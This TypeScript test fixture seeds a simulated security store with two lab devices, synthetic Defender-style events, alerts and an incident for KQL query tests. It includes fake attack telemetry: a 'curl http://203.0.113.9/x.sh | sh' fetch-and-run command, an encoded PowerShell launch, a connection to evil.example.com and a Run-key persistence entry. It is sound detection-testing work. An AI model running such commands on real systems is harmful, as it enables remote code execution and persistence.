import { randomUUID } from 'node:crypto';
import type { AlertRow, IncidentRow, Store } from '../../control-plane/store/index.ts';
import type { SensorEvent } from '../../protocol/index.ts';

/**
 * A small lab for KQL tests: two devices with process, network, logon, file and registry events
 * at known times, four MDC alerts (High and Medium active, Low active, High dismissed) and one
 * incident. Every expected value in the query tests is worked out from these rows by hand.
 */
export const LAB_NOW = Date.parse('2026-03-10T12:00:00Z');
const H = 3_600_000;

const uuid7 = (i: number) => {
  const hex = (LAB_NOW + i).toString(16).padStart(12, '0');
  const r = randomUUID().replace(/-/g, '');
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-7${r.slice(13, 16)}-8${r.slice(17, 20)}-${r.slice(20, 32)}`;
};

let n = 0;
function ev(table: string, device: { id: string; name: string }, hoursAgo: number, fields: Record<string, unknown>): SensorEvent {
  return { Table: table, Timestamp: new Date(LAB_NOW - hoursAgo * H).toISOString(), DeviceId: device.id, DeviceName: device.name, ReportId: uuid7(n++), ...fields } as SensorEvent;
}

export const WEB = { id: 'agent-web', name: 'web-01' };
export const DB = { id: 'agent-db', name: 'db-01' };

export function labEvents(): Array<{ agentId: string; events: SensorEvent[] }> {
  const web: SensorEvent[] = [
    ev('DeviceProcessEvents', WEB, 2, { ActionType: 'ProcessCreated', FileName: 'powershell.exe', FolderPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', ProcessCommandLine: 'powershell.exe -NoProfile -EncodedCommand SQBFAFgA', InitiatingProcessFileName: 'cmd.exe', AccountName: 'alice', SHA256: 'aa'.repeat(32) }),
    ev('DeviceProcessEvents', WEB, 3, { ActionType: 'ProcessCreated', FileName: 'whoami.exe', ProcessCommandLine: 'whoami /all', InitiatingProcessFileName: 'powershell.exe', AccountName: 'alice' }),
    ev('DeviceProcessEvents', WEB, 30, { ActionType: 'ProcessCreated', FileName: 'powershell.exe', ProcessCommandLine: 'PowerShell.exe -c Get-Process', InitiatingProcessFileName: 'explorer.exe', AccountName: 'bob' }),
    ev('DeviceNetworkEvents', WEB, 1, { ActionType: 'ConnectionSuccess', RemoteIP: '203.0.113.9', RemotePort: 443, RemoteUrl: 'evil.example.com', LocalIP: '10.0.0.4', InitiatingProcessFileName: 'powershell.exe' }),
    ev('DeviceNetworkEvents', WEB, 1, { ActionType: 'ConnectionSuccess', RemoteIP: '10.0.0.5', RemotePort: 1433, LocalIP: '10.0.0.4', InitiatingProcessFileName: 'sqlcmd.exe' }),
    ev('DeviceLogonEvents', WEB, 5, { ActionType: 'LogonFailed', AccountName: 'root', LogonType: 'Network', RemoteIP: '198.51.100.7' }),
    ev('DeviceLogonEvents', WEB, 5, { ActionType: 'LogonFailed', AccountName: 'admin', LogonType: 'Network', RemoteIP: '198.51.100.7' }),
    ev('DeviceLogonEvents', WEB, 4, { ActionType: 'LogonSuccess', AccountName: 'alice', LogonType: 'RemoteInteractive', RemoteIP: '198.51.100.7' }),
    ev('DeviceRegistryEvents', WEB, 2, { ActionType: 'RegistryValueSet', RegistryKey: 'HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run', RegistryValueName: 'updater', RegistryValueData: 'C:\\Users\\alice\\AppData\\updater.exe' }),
    ev('DeviceInfo', WEB, 0.5, { OSPlatform: 'Windows11', PublicIP: '203.0.113.20', OnboardingStatus: 'Onboarded', LoggedOnUsers: [{ UserName: 'alice', DomainName: 'LAB' }] }),
  ];
  const db: SensorEvent[] = [
    ev('DeviceProcessEvents', DB, 1, { ActionType: 'ProcessCreated', FileName: 'bash', ProcessCommandLine: 'bash -c "curl http://203.0.113.9/x.sh | sh"', InitiatingProcessFileName: 'sshd', AccountName: 'root' }),
    ev('DeviceFileEvents', DB, 1, { ActionType: 'FileCreated', FileName: 'x.sh', FolderPath: '/tmp/x.sh', SHA256: 'bb'.repeat(32), InitiatingProcessFileName: 'curl' }),
    ev('DeviceInfo', DB, 0.5, { OSPlatform: 'Linux', PublicIP: '203.0.113.21', OnboardingStatus: 'Onboarded' }),
  ];
  return [{ agentId: WEB.id, events: web }, { agentId: DB.id, events: db }];
}

function alert(id: string, severity: AlertRow['severity'], status: AlertRow['status'], display: string, hoursAgo: number): AlertRow {
  const t = LAB_NOW - hoursAgo * H;
  return {
    systemAlertId: id, dedupKey: `k-${id}`, alertType: 'VM_SshBruteForceFailed', ruleId: 'r1', agentId: WEB.id,
    resourceId: '/subscriptions/sub-lab/resourceGroups/rg-lab/providers/Microsoft.HybridCompute/machines/web-01',
    severity, status, count: 1, startTime: t, endTime: t, timeGenerated: t, updatedAt: t, latencyMs: null,
    properties: { alertDisplayName: display, intent: 'Probing', detectingProduct: 'MDC', location: { subscription: 'sub-lab', resourceGroup: 'rg-lab', location: 'eastus' }, techniques: ['T1110'] },
  };
}

export const LAB_ALERTS = [
  alert('alert-b-high', 'High', 'Active', 'Successful SSH brute force attack', 3),
  alert('alert-a-high', 'High', 'Active', 'Fileless attack technique detected', 2),
  alert('alert-c-medium', 'Medium', 'Active', 'Failed SSH brute force attack', 4),
  alert('alert-d-low', 'Low', 'Active', 'New SSH key added', 1),
  alert('alert-e-dismissed', 'High', 'Dismissed', 'Suspicious PowerShell Activity Detected', 1),
];

/** Fills a fresh store with the lab's events, alerts and incident. */
export async function fillQueryLab(store: Store): Promise<void> {
  for (const { agentId, events } of labEvents()) await store.events.insertEvents(agentId, events, LAB_NOW);
  for (const a of LAB_ALERTS) await store.alerts.upsertAlert(a, 0);
  const inc: IncidentRow = {
    incidentId: 'inc-1', title: 'Brute force on web-01', severity: 'High', status: 'Active', sentinelStatus: null,
    createdAt: LAB_NOW - 3 * H, updatedAt: LAB_NOW - 2 * H, firstActivity: LAB_NOW - 4 * H, lastActivity: LAB_NOW - 2 * H, redirectedTo: null,
  };
  await store.incidents.insertIncident(inc);
  await store.incidents.addIncidentAlert('inc-1', 'alert-b-high', LAB_NOW - 3 * H);
  await store.incidents.addIncidentAlert('inc-1', 'alert-c-medium', LAB_NOW - 3 * H);
}

/** The seed's Open query (Defender for Cloud alert blade), fixed: table on line 1, `case(` completed. */
export const SEED_QUERY_FIXED = `securityresources
| where type =~ 'microsoft.security/locations/alerts'
| where properties.Status in ('Active')
| where properties.Severity in ('Medium', 'High')
| extend SeverityRank = case(
    properties.Severity == 'High', 3,
    properties.Severity == 'Medium', 2,
    properties.Severity == 'Low', 1, 0)
| order by SeverityRank desc, tostring(properties.SystemAlertId) asc
| project name, properties.Severity, properties.AlertDisplayName, properties.TimeGeneratedUtc, properties.ProductName`;

/** The same query as the seed quotes it: no table before the first `|`, and `case(` never closed. */
export const SEED_QUERY_FLAWED = `| where type =~ 'microsoft.security/locations/alerts'
| where properties.Status in ('Active')
| where properties.Severity in ('Medium', 'High')
| extend SeverityRank = case(
    properties.Severity == 'High', 3,
    properties.Severity == 'Medium', 2,
| order by SeverityRank desc, tostring(properties.SystemAlertId) asc
| project name, properties.Severity, properties.AlertDisplayName, properties.TimeGeneratedUtc, properties.ProductName`;
